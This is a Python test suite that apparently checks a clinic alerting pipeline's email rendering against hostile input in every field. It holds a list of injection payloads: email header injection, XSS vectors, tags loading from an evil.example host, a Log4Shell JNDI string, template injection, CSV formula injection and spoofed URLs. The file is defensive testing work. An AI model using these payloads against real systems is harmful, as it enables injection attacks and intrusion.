"""Hostile text in every field: no new header, tag, link or host may come of it."""

import email
import re
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from email.policy import default
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.alerting.digest import Coverage, DigestCounts
from pipeline.alerting.message import HEADERS, build_message
from pipeline.alerting.notices import Noise
from pipeline.alerting.render import render_digest, render_urgent
from pipeline.alerting.trends import Trend


def encoded_words(text):
    """The text as an RFC 2047 word, which Python 3.11 and older decode into a new header (CVE-2024-6923)."""
    octets = f"\r\n{text}".encode("utf-8", "replace")[:40]
    return "=?utf-8?q?" + "".join(f"={octet:02X}" for octet in octets) + "?="


BASES = (
    "=?UTF-8?Q?x=0D=0AReply-To:_evil@evil.example?=",
    "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=",
    "x\r\nBcc: evil@evil.example",
    "x\nBcc: evil@evil.example\n\nbody",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\x0bReply-To: e@evil.example",
    "x\x1c\x1d\x1e\x85Bcc: e@evil.example",
    "x\u2028Bcc: e@evil.example\u2029",
    "\x00nul\ud800surrogate",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<a href='https://evil.example'>click</a>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</td></tr></table><iframe src=//evil.example>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<form action=https://evil.example><input name=q>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "https://x.com@evil.example/a/status/1",
    "https://x.com.evil.example/a/status/1",
    "https://evil.example/?u=https://x.com/a/status/1",
    "{{ 7 * 7 }}{% for x in ().__class__.__bases__ %}",
    "${jndi:ldap://evil.example/a}",
    "\u202egpj.exe\u2066\u200f",
    "=cmd|' /C calc'!A0",
    "--=_boundary--\r\nContent-Type: text/html",
    "\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "a" * 5_000,
    "𝕌𝕣𝕘𝕖𝕟𝕥 ＝？utf-8？q？x？＝",
    "&lt;script&gt;&#x3c;b&#62;",
)
# Each base in six shapes, among them an attribute that is closed too early, and encoded words.
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *BASES,
            *(f"The shot {base} harms" for base in BASES),
            *(base * 3 for base in BASES),
            *map(str.upper, BASES),
            *(f'x"> {base} <a href="' for base in BASES),
            *map(encoded_words, BASES),
            *(base.replace("evil.example", "journal.org.evil.example") + "\r\n" for base in BASES),
        )
    )
)

TAGS = frozenset(
    (
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "table",
        "tbody",
        "tr",
        "td",
        "div",
        "span",
        "b",
        "a",
        "br",
        "img",
    )
)
PAGE = "https://auscult.clinic.org/alert?token=a.b.c"
PART_HEADERS = {"content-type", "content-transfer-encoding", "content-disposition", "content-id", "mime-version"}
ALT = re.compile(r"Posts a day, [0-9A-Za-z ]+: [0-9, +?]+( \(\? and \+ mark [a-z ]+\))?\.")
LINKED_HOSTS = frozenset(("www.reddit.com", "x.com", "journal.org", "institute.org", "auscult.clinic.org"))


class Seen(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.hosts, self.styles = set(), set(), set(), []
        self.sources, self.alts, self.links = [], [], 0

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        if tag == "style":
            self.styles.append(self.getpos())
        self.sources += [value for name, value in attrs if name == "src"]
        self.alts += [value for name, value in attrs if name == "alt"]
        self.links += tag == "a"
        self.hosts |= {urlsplit(value).hostname for name, value in attrs if name == "href"}


def _check(rendered, now):
    message_id, message = build_message(rendered, "auscult@clinic.org", "a@b.org", "key", now)
    parsed = email.message_from_bytes(message, policy=default)
    assert set(parsed.keys()) == HEADERS
    assert len(parsed.keys()) == len(HEADERS)
    assert parsed["Message-ID"] == message_id
    assert b"=?" not in message.split(b"\r\n\r\n", 1)[0]
    assert not any(part.defects for part in parsed.walk())
    text, html, pictures = _parts(parsed)
    seen = Seen()
    seen.feed(html.get_content())
    assert seen.tags <= TAGS
    assert not {name for name in seen.attributes if name.startswith("on")}
    # A picture is one of ours inside this very mail, and its words are numbers and dates.
    assert set(seen.sources) == {f"cid:{picture['Content-ID'][1:-1]}" for picture in pictures}
    assert [picture.get_content() for picture in pictures] == [picture.png for picture in rendered.pictures]
    assert all(ALT.fullmatch(alt) for alt in seen.alts)
    assert len(seen.alts) == len(seen.sources)
    assert seen.links <= 3 or rendered.slug == "digest"
    assert not seen.attributes & {"srcset", "background", "action", "http-equiv", "data", "formaction"}
    assert seen.hosts <= LINKED_HOSTS
    assert len(seen.styles) == 1
    for content in (text.get_content(), html.get_content()):
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\x00\x0b\x1c\x85\u2028]", content)
        assert "https://evil.example" not in "".join(re.findall(r'href="[^"]*"', content))
        assert len(content) < 60_000
    # No hostile line may stand as a heading or a header of its own in the plain part.
    assert not re.search(r"(?m)^(?:Bcc|Reply-To|MAIL FROM|Content-Type)\b", text.get_content())


def _parts(parsed):
    """Text, HTML and pictures, wherever they stand; no part has a header but those that MIME needs."""
    for part in parsed.walk():
        assert part is parsed or {name.lower() for name in part} <= PART_HEADERS
    text, html = parsed.iter_parts()
    if html.get_content_type() == "text/html":
        return text, html, []
    html, *pictures = html.iter_parts()
    for picture in pictures:
        assert re.fullmatch(r"<[0-9a-f]{32}@auscult>", picture["Content-ID"])
        assert re.fullmatch(r'inline; filename="chart-[0-9]+\.png"', picture["Content-Disposition"])
    return text, html, pictures


def _trend(bad, kind="claim", **changes):
    drawn = Trend(
        kind=kind,
        subject=bad,
        apart=bad,
        platforms=(bad, "x"),
        posts=9,
        expected=1.5,
        chance=1e-6,
        voices=5,
        days=tuple(date(2026, 9, 19) + timedelta(days=number) for number in range(14)),
        counts=(0, 1) * 7,
        covered=(True, True, False, *[True] * 11),
        direction="rising",
        surge=True,
        began_at=datetime(2026, 10, 1, tzinfo=UTC),
    )
    return replace(drawn, **changes)


def _urgent_mails(bad, alert, mention_alert, facts, now):
    posts = [
        {"platform": bad, "platform_id": bad, "url": bad},
        {"platform": "x", "platform_id": bad, "url": bad},
        {"platform": "reddit", "platform_id": "t3_abc", "url": bad},
    ]
    evidence = alert.evidence | {"posts": posts}
    worst = replace(
        alert, evidence=evidence, platforms=(bad, "x"), claim_id=bad, alert_key=bad, practice_id=bad, reasons=(bad,)
    )
    named = replace(
        mention_alert,
        evidence=mention_alert.evidence | {"terms": [bad], "posts": posts},
        category=bad,
        platforms=(bad,),
    )
    source = {"publisher": bad, "title": bad, "address": bad, "date": bad, "verified": True}
    worst_facts = replace(
        facts,
        claim=bad,
        rating=bad,
        harm=bad,
        correction=bad,
        review_note=bad,
        harm_reason=bad,
        evidence=(source, source | {"verified": bad}, *facts.evidence),
    )
    surging = {"expected": bad, "window_posts": bad, "window_hours": bad, "chance": bad, "wordings": 3}
    surging |= {"per_day": bad, "platform_posts": {bad: 3}, "growth": bad}
    story = replace(worst, kind="surge", claim_id=None, narrative_id=bad, evidence=evidence | surging)
    return (
        worst,
        named,
        worst_facts,
        (
            render_urgent(worst, worst_facts, bad, "America/New_York", now),
            render_urgent(worst, worst_facts, bad, "UTC", now, link=PAGE, why="worse", trend=_trend(bad)),
            render_urgent(replace(worst, kind="surge"), worst_facts, bad, "UTC", now, link=PAGE, trend=_trend(bad)),
            render_urgent(story, None, bad, "UTC", now, link=PAGE, why="repeat", trend=_trend(bad, "narrative")),
            render_urgent(replace(named, kind="surge"), None, bad, "UTC", now, trend=_trend(bad, "mention")),
            render_urgent(worst, None, bad, "America/New_York", now),
            render_urgent(named, None, bad, "America/New_York", now),
            render_urgent(replace(named, category=f"urgent:{bad}"), None, bad, "UTC", now),
        ),
    )


def _digest(bad, worst, named, worst_facts, now):
    counts = DigestCounts(now, now, 9, 9, 4, ((bad, 3), ("vax-harm", 2)), 1, {bad: 2, "positive": 1})
    kinds = ("claim", "narrative", "mention")
    trends = [_trend(bad, kind, counts=(number, 5) * 7) for number, kind in enumerate(kinds, start=1)]
    trends += [replace(trend, surge=False, began_at=None, direction="falling") for trend in trends]
    coverage = [Coverage(bad, "off", 0, None, bad), Coverage("x", "failed", 0, now, bad)]
    facts = {bad: worst_facts, "vax-harm": worst_facts}
    links = {worst.alert_key: PAGE, named.alert_key: PAGE}
    held, noise = {bad: 3, "cap": 1}, Noise(3, 1)
    more = {"trends": trends, "held": held, "links": links, "noise": noise}
    return render_digest([worst, named], facts, counts, coverage, bad, "UTC", now, **more)


def test_there_are_two_hundred_payloads():
    assert len(PAYLOADS) >= 200


@pytest.mark.parametrize("bad", PAYLOADS)
def test_no_payload_adds_a_header_tag_link_or_host(bad, alert, mention_alert, facts, now):
    worst, named, worst_facts, mails = _urgent_mails(bad, alert, mention_alert, facts, now)
    for rendered in (*mails, _digest(bad, worst, named, worst_facts, now)):
        assert rendered.subject.isascii()
        assert rendered.subject.isprintable()
        assert len(rendered.subject) <= 120
        _check(rendered, now)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(bad=st.text(st.characters(categories=None), max_size=200))
def test_no_text_at_all_does(bad, alert, mention_alert, facts, now):
    worst, named, worst_facts, mails = _urgent_mails(bad, alert, mention_alert, facts, now)
    for rendered in (*mails, _digest(bad, worst, named, worst_facts, now)):
        _check(rendered, now)
